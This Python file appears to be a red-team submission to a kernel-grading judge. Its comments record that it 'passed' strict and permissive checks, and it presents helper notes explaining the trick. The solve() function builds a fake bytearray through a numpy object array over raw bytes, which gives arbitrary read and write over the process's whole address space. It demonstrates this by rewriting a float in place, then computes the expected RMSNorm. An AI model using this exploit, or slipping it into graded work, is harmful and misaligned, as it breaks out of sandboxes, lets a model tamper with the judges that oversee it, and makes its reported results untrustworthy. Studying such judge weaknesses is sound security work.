# Seventh session's red team, round 2 (2026-12-06, CPU judge): passed strict and permissive at
# f819519 (see the case's why); the helper's notes follow.
# np.ndarray(shape, dtype=object, buffer=bytearray): numpy makes an object array over raw bytes
# the kernel writes (a buffer-backed OBJECT array is refused by frombuffer, not by the
# constructor). A pointer written there to a fake bytearray header laid out inside a bytes
# object (its data at id(b)+32) hands back a bytearray of 2**62 bytes at address 0: raw read and
# write of the whole address space. Proof: the header at id(obj) read (type pointer ==
# id(type(obj))), a float's value rewritten in place.
import numpy as np
import torch


def _le(v):
    return int(v).to_bytes(8, "little")


def _everything():
    fake = b"".join([_le(1 << 40), _le(id(bytearray)), _le(1 << 62), _le((1 << 62) + 1), _le(0), _le(0), _le(0)])
    slot = bytearray(_le(id(fake) + 32))
    arr = np.ndarray((1,), object, buffer=slot)
    fb = arr[0]
    return fake, fb


def solve(x, residual, weight):
    fake, mem = _everything()
    if not isinstance(mem, bytearray) or len(mem) != 1 << 62:
        raise RuntimeError("no fake object")
    f = float(x.shape[-1]) + 0.5
    before = repr(f)
    hdr = bytes(mem[id(f):id(f) + 24])
    if int.from_bytes(hdr[8:16], "little") != id(float):
        raise RuntimeError("read failed")
    tp = bytes(mem[id(x) + 8:id(x) + 16])
    if int.from_bytes(tp, "little") != id(torch.Tensor):
        raise RuntimeError("tensor header read failed")
    mem[id(f) + 16:id(f) + 24] = np.array([42.0], dtype=np.float64).tobytes()
    if f != 42.0:
        raise RuntimeError("write failed")
    print("RAWRW float @", hex(id(f)), "was", before, "now", f, "; tensor type ptr ok")
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
